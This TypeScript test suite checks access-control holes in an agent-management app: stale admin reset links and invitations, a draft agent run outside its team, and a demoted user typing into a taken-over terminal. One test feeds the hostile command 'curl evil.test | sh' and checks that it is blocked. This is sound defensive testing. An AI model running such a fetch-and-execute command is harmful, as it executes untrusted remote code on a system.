// Attack suite: holes found reviewing people, teams and agents
// (docs/security.md#the-attack-suite). A link carries the authority of the
// admin who made it: once they are disabled or demoted, their pending
// invitations and reset links are withdrawn, so nobody keeps a way back in or
// into another admin's account. Disabling a person withdraws their reset link
// for good. A draft runs only in its own team, where its handoffs were checked.
// A person who took over a terminal types no more once they lose the operator
// role there.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Socket } from "socket.io";
import type { TerminalPod } from "@/server/compute";
import { RunEventBus, type RunEventRecord, type RunState } from "@/server/kernel";
import { TerminalRun, type TerminalRunDeps } from "@/server/realtime";
import { callerFor } from "@/test/helpers/services";
import { createUser, loadActor, verifyCredentials, type Actor } from "@/server/identity";
import { createTestKernel, type TestKernel } from "../helpers/kernel";
import { agentPeople, specFor, type AgentPeople } from "../helpers/agents";
import { trpcError } from "../helpers/trpc";

let tk: TestKernel;
let p: AgentPeople;

const caller = (actor: Actor | null) => callerFor(tk, actor, { linkBase: "https://rein.example" });
const tokenOf = (url: string) => new URL(url).searchParams.get("token")!;
const admin = () => caller(tk.actors.admin);

beforeAll(async () => {
  tk = await createTestKernel();
  p = await agentPeople(tk);
}, 60_000);

afterAll(async () => tk?.cleanup());

describe("links made by an admin who is no longer one", () => {
  it("a reset link for another admin, made before its maker was disabled, cannot take that admin's account", async () => {
    const victim = await createUser(tk.t.db, { email: "victim-admin@test.local", password: "victim-password", role: "admin" });
    const rogueId = await createUser(tk.t.db, { email: "rogue-admin@test.local", password: "rogue-password", role: "admin" });
    const rogue = (await loadActor(tk.t.db, rogueId))!;
    const { url } = await caller(rogue).users.resetLink({ id: victim });
    await admin().users.disable({ id: rogueId });

    const anonymous = caller(null);
    expect((await trpcError(anonymous.invitations.inspect({ token: tokenOf(url) }))).code).toBe("CONFLICT");
    expect((await trpcError(anonymous.invitations.accept({ token: tokenOf(url), password: "taken-over-1" }))).code).toBe("CONFLICT");
    expect(await verifyCredentials(tk.t.db, "victim-admin@test.local", "taken-over-1")).toBeNull();
    expect(await verifyCredentials(tk.t.db, "victim-admin@test.local", "victim-password")).toBe(victim);
  });

  it("an admin invitation made before its maker was demoted creates nobody", async () => {
    const rogueId = await createUser(tk.t.db, { email: "demoted-admin@test.local", password: "rogue-password", role: "admin" });
    const rogue = (await loadActor(tk.t.db, rogueId))!;
    const { url } = await caller(rogue).invitations.create({ email: "backdoor@evil.test", role: "admin" });
    await admin().users.setRole({ id: rogueId, role: "viewer" });

    const err = await trpcError(caller(null).invitations.accept({ token: tokenOf(url), password: "backdoor-password" }));
    expect(err.code).toBe("CONFLICT");
    expect(await tk.t.db.user.count({ where: { email: "backdoor@evil.test" } })).toBe(0);
  });

  it("links made by an admin who still is one keep working", async () => {
    const { url } = await admin().invitations.create({ email: "welcome@test.local", role: "viewer" });
    await caller(null).invitations.accept({ token: tokenOf(url), password: "welcome-password" });
    expect(await tk.t.db.user.count({ where: { email: "welcome@test.local" } })).toBe(1);
  });
});

describe("a disabled person's reset link", () => {
  it("is withdrawn by the disabling: enabling them again does not bring it back", async () => {
    const id = await createUser(tk.t.db, { email: "leaver@test.local", password: "leaver-password", role: "viewer" });
    const { url } = await admin().users.resetLink({ id });
    await admin().users.disable({ id });
    await admin().users.enable({ id });
    const err = await trpcError(caller(null).invitations.accept({ token: tokenOf(url), password: "leaked-link-1" }));
    expect(err.code).toBe("CONFLICT");
    expect(await verifyCredentials(tk.t.db, "leaver@test.local", "leaked-link-1")).toBeNull();
  });
});

describe("trying a draft", () => {
  it("runs only in the draft's own team: a draft of team alpha handing off to alpha's agent is not run in team beta", async () => {
    await caller(p.alphaOperator).agents.create({ spec: specFor(p.alphaId, { name: "alpha-helper" }) });
    const bothId = await createUser(tk.t.db, {
      email: "both-teams@test.local",
      password: "test-password-1",
      role: "operator",
      teams: ["alpha", "beta"],
    });
    const both = (await loadActor(tk.t.db, bothId))!;
    const spec = specFor(p.alphaId, { name: "bridge-bot", tools: ["handoff"], handoffs: ["alpha-helper"] });
    // The same spec saved with team beta is refused: beta's agents hand off only to beta's or everyone's.
    expect((await caller(both).agents.validate({ spec: { ...spec, teamId: p.betaId } })).problems.map((x) => x.field)).toContain(
      "handoffs.0",
    );

    const before = await tk.t.db.run.count({ where: { teamId: p.betaId } });
    const err = await trpcError(caller(both).agents.tryDraft({ spec, goal: "g", teamId: p.betaId }));
    expect(err.code).toBe("BAD_REQUEST");
    expect(await tk.t.db.run.count({ where: { teamId: p.betaId } })).toBe(before);
    expect(await tk.t.db.agentSpec.count({ where: { name: "bridge-bot" } })).toBe(0);

    // In its own team it runs.
    const run = await caller(both).agents.tryDraft({ spec: { ...spec, tools: ["handoff"] }, goal: "g", teamId: p.alphaId });
    expect(run.teamId).toBe(p.alphaId);
    await tk.settle(run.id);
  });
});

describe("a person who took over a terminal and then lost the operator role in the run's team", () => {
  it("types nothing more: each keystroke is judged by their role now", async () => {
    const bus = new RunEventBus();
    let state: RunState = "running";
    const kernel = {
      bus,
      store: { getRun: async () => ({ status: state }), appendEvents: async () => [] },
      pool: { isActive: () => true, pause: async () => ({ ok: true }), resume: async () => ({ ok: true }) },
    } as unknown as TerminalRunDeps["kernel"];
    const written: string[] = [];
    const pod = {
      id: "pod-1",
      sandbox: "none",
      workspaceDir: "",
      startedAt: 0,
      onData: () => () => {},
      onExit: () => () => {},
      write: (d: string) => void written.push(d),
      resize() {},
      exec: async () => ({ exitCode: 0, output: "", truncatedChars: 0 }),
      alive: () => true,
      dispose: async () => {},
    } satisfies TerminalPod;
    const run = new TerminalRun("run-1", {
      kernel,
      log: { error() {} },
      graceMs: 60_000,
      serverStopping: () => false,
      remember() {},
      recall: () => null,
    });
    run.attachPod(pod);
    const ada: Actor = { userId: "ada", email: "ada@x.test", name: "Ada", role: "operator", via: "session", teamIds: ["t"] };
    run.addViewer({ id: "s-ada", emit() {} } as unknown as Socket, ada);
    expect((await run.takeover(ada)).ok).toBe(true);
    state = "paused";
    bus.publish("run-1", [
      {
        runId: "run-1",
        seq: 1,
        type: "run.state",
        actor: null,
        payload: { from: "running", to: "paused" },
        createdAt: new Date(),
      } as RunEventRecord,
    ]);
    expect(run.input(ada, "echo ok\r").ok).toBe(true);
    // Removed from the team (actorInTeam makes them a viewer there) or demoted to viewer in it.
    expect(run.input({ ...ada, role: "viewer" }, "curl evil.test | sh\r").ok).toBe(false);
    expect(written).toEqual(["echo ok\r"]);
  });
});
